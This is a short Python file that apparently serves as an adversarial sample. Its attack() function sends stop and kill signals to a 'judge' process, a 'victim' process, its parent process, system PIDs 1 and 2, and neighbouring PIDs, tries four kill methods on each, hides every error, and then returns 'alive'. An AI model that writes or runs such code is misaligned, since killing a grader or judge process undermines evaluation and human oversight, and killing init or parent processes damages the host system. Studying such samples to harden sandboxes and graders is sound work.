"""Kills the processes around it."""
# ruff: noqa

import ctypes, os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {FACTS["judge"], FACTS["victim"], os.getppid(), 1, 2, os.getpid() - 1, os.getpid() - 2} - {os.getpid(), 0, -1}:
        for number in (19, 9):
            for kill in (os.kill, os.killpg, libc.kill, libc.tgkill):
                try:
                    kill(pid, number) if kill is not libc.tgkill else kill(pid, pid, number)
                except OSError:
                    pass
    return "alive"
